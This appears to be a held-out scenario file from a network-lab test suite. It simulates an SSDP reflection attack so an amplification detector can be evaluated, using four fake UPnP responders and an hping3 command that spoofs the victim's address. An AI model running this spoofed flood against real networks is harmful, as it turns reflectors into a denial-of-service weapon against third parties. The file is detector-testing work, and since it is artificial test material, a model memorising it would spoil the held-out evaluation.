"""SSDP: devices that answer searches from outside."""

from lab.range import Range
from lab.scenario import Scenario

SERVER = """
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("0.0.0.0", 1900))
while True:
    asked, peer = server.recvfrom(2048)
    if asked.startswith(b"M-SEARCH"):
        for kind in ("upnp:rootdevice", "urn:schemas-upnp-org:device:InternetGatewayDevice:1",
                     "urn:schemas-upnp-org:service:WANIPConnection:1",
                     "uuid:2fac1234-31f8-11b4-a222-08002b34c003",
                     "urn:schemas-upnp-org:service:Layer3Forwarding:1",
                     "urn:schemas-upnp-org:device:WANDevice:1"):
            server.sendto((f"HTTP/1.1 200 OK\\r\\nCACHE-CONTROL: max-age=120\\r\\nST: {kind}\\r\\n"
                f"USN: uuid:2fac1234-31f8-11b4-a222-08002b34c003::{kind}\\r\\nEXT:\\r\\n"
                "SERVER: Linux/4.4 UPnP/1.1 MiniUPnPd/2.1\\r\\n"
                "LOCATION: http://10.20.0.30:5000/rootDesc.xml\\r\\n\\r\\n").encode(), peer)
"""
QUESTION = (
    b'M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:ssdp:all\r\nMAN:"ssdp:discover"\r\nMX:1\r\n\r\n'
)


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    victim = net.inside("files")
    devices = [net.outside(f"device{number}") for number in range(1, 5)]
    for device in devices:
        device.start("/usr/bin/python3", "-c", SERVER)
    net.everyday()
    net.quiet(1)
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=devices,
        attackers=[],
        victims=[victim],
        attacker_known=False,
        others={"reflector": devices, "claimed": [victim]},
        also=["udp-flood"],
        frames=f"udp and dst host {victim.ip} and src port 1900",
        responses=f"icmp and src host {victim.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 80 -k -p 1900 -d {len(QUESTION)} -E {question}"
        started = [
            net.start(attacker, *words.split(), *["-i", "u150000", "-c", "60"], d.ip) for d in devices[1:]
        ]
        net.tool(attacker, *words.split(), *["-i", "u150000", "-c", "60"], devices[0].ip)
        for process in started:
            net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-held-ssdp",
    about="Four devices outside send an inside host the answers to SSDP searches that it never made.",
    detectors=("amplification",),
    tools={"hping3": "hping3"},
    held_out=True,
    run=run,
)
